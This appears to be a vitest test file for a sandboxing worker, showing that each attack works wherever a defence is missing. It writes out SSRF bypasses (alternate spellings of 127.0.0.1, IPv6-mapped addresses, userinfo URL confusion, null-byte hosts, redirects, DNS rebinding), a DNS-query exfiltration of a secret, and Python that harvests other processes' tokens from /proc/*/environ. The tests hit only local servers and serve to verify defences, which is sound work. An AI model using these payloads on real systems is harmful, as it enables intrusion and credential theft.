// Promise: what is refused in the other files is refused by our defences, and not because it would not have worked. Each attack is made
// where one of them is missing: by a tool of tier B, which has the network of the host, or by the guard that one would write first. It
// works there.

import { createSocket } from 'node:dgram'
import { createServer as createHttp, type Server } from 'node:http'
import { type AddressInfo, connect, createServer as createTcp } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { isPublic } from '../../worker/sandbox/address.ts'
import { findHost } from '../../worker/sandbox/host.ts'
import { Arena, attack, planOf, processesWith, told, unique } from './arena.ts'

let arena: Arena
let inside: Server
let port: number
beforeAll(async () => {
  inside = createHttp((request, answer) => {
    if (request.url === '/redirect') answer.writeHead(302, { location: `http://127.0.0.1:${port}/moved` })
    answer.end(`inside says ${request.url}`)
  })
  await new Promise<void>((settle) => inside.listen(0, '127.0.0.1', settle))
  port = (inside.address() as AddressInfo).port // it listens on a port
  arena = await Arena.open()
})
afterAll(async () => {
  await arena.close()
  inside.close()
})

const curl = async (...args: string[]): Promise<string> =>
  (await arena.launch({ plan: planOf(['curl', '--silent', '--show-error', '--max-time', '8', ...args], { tier: 'B' }) })).out
const onHost = async (source: string): Promise<Record<string, unknown>> =>
  told(await arena.launch({ plan: planOf(attack(source), { tier: 'B' }) }))

test('N01 without a network namespace: what listens inside answers', async () => {
  expect(await curl(`http://127.0.0.1:${port}/`)).toBe('inside says /')
})

test('N02 without judging what a spelling stands for: every one leads to the same place', async () => {
  for (const spelled of ['2130706433', '0x7f000001', '0177.0.0.1', '127.1', '127.000.0.1']) {
    expect(spelled).not.toMatch(/^127\.0\.0\.1$/) // what a list of forbidden texts would hold
    expect(await curl(`http://${spelled}:${port}/`), spelled).toBe('inside says /')
  }
})

test('N03 without reading the IPv4 address inside of an IPv6 one: it is connected to', async () => {
  for (const spelled of ['[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[0:0:0:0:0:ffff:7f00:0001]']) {
    expect(await curl(`http://${spelled}:${port}/`), spelled).toBe('inside says /')
  }
})

test('N04 without judging what a name resolves to: a name leads inside', async () => {
  for (const name of ['localhost', 'any.name.example']) {
    const resolved = name.startsWith('any') ? ['--resolve', `${name}:${port}:127.0.0.1`] : []
    expect(await curl(...resolved, `http://${name}:${port}/`), name).toBe('inside says /')
  }
})

test('N05 without one parser for check and connection: the host that is read first is not the one that is reached', async () => {
  const url = `http://listed.example:80@127.0.0.1:${port}/`
  expect(/^http:\/\/([^/:]+)/.exec(url)?.[1]).toBe('listed.example')
  expect(await curl(url)).toBe('inside says /')
})

test('N06 without refusing control bytes: a check reads on where a connection stops', async () => {
  const host = '127.0.0.1\0.ok.example'
  expect(host.endsWith('.ok.example')).toBe(true)
  const seen = await onHost(`
ip = (ctypes.c_ubyte * 4)()
tell['read'] = libc.inet_pton(2, b'127.0.0.1\\0.ok.example', ip)
tell['ip'] = list(ip)`)
  expect(seen).toEqual({ read: 1, ip: [127, 0, 0, 1] })
})

test('N07 without label boundaries: a stranger ends as a listed host does', () => {
  const listed = (host: string): boolean => host.endsWith('ok.com')
  expect([listed('ok.com'), listed('evil-ok.com')]).toEqual([true, true])
})

test('N08 without a judgement of each request: whoever follows a redirect ends inside', async () => {
  expect(await curl('--location', `http://127.0.0.1:${port}/redirect`)).toBe('inside says /moved')
})

test('N09 without connecting to the checked address: the second answer is another', async () => {
  const answers = ['93.184.215.14', '127.0.0.1']
  const resolve = (): string => answers.shift() ?? ''
  expect(isPublic(resolve())).toBe(true) // checked, and thrown away
  const reached = await new Promise<string | undefined>((settle, fail) => {
    const socket = connect({
      host: 'rebind.example',
      port,
      lookup: (_host, _options, give) => give(null, [{ address: resolve(), family: 4 }]),
    })
    socket.on('connect', () => settle(socket.remoteAddress)).on('error', fail)
    socket.on('connect', () => socket.destroy())
  })
  expect(reached).toBe('127.0.0.1')
})

test('N10 without a network namespace: a question for a name carries a word out', async () => {
  const word = `secret-${unique()}`
  const resolver = createSocket('udp4')
  const heard = new Promise<string>((settle) => resolver.on('message', (question) => settle(question.toString('latin1'))))
  await new Promise<void>((settle) => resolver.bind(0, '127.0.0.1', settle))
  await onHost(`
import socket
label = b'${word}'
question = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(label)]) + label + b'\\7example\\0\\0\\1\\0\\1'
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ('127.0.0.1', ${resolver.address().port}))`)
  expect(await heard).toContain(word)
  resolver.close()
})

test('N12 without the sandbox, in tier B: another call’s token is read from its environment', async () => {
  const [word, token] = [unique(), `token-${unique()}`]
  let other: Promise<unknown> | undefined
  const ready = new Promise<void>((settle) => {
    const plan = planOf(['sh', '-c', `echo ready; exec sleep 30.${word}`], {
      tier: 'B',
      env: { HTTP_PROXY: `http://call:${token}@127.0.0.1:1` },
    })
    other = arena.launch({ plan }, () => settle())
  })
  await ready
  const read = `
import glob
found = []
for path in glob.glob('/proc/*/environ'):
    try: found.append(open(path).read())
    except OSError: pass
tell['found'] = any('${token}' in text for text in found)`
  expect(await onHost(read)).toEqual({ found: true })
  expect(told(await arena.launch({ plan: planOf(attack(read)) }))).toEqual({ found: false })
  for (const pid of processesWith(word)) process.kill(pid, 'SIGKILL')
  await other
})

test('N13 not shown here: the worker starts no network of user mode, so there is none to reach the host through', async () => {
  const { programs } = await findHost()
  expect(Object.keys(programs).filter((name) => /pasta|slirp|vpnkit|gvproxy/.test(name))).toEqual([])
})

test('N15 without the proxy: nobody counts connections', async () => {
  const server = createTcp((socket) => void socket.on('error', () => socket.destroy()))
  await new Promise<void>((settle) => server.listen(0, '127.0.0.1', settle))
  const source = `
import socket
held = [socket.create_connection(('127.0.0.1', ${(server.address() as AddressInfo).port}), 8) for _ in range(20)]
tell['made'] = len(held)`
  const plan = planOf(attack(source), { tier: 'B', limits: { net_connections: 5 } })
  expect(told(await arena.launch({ plan }))).toEqual({ made: 20 })
  server.close()
})
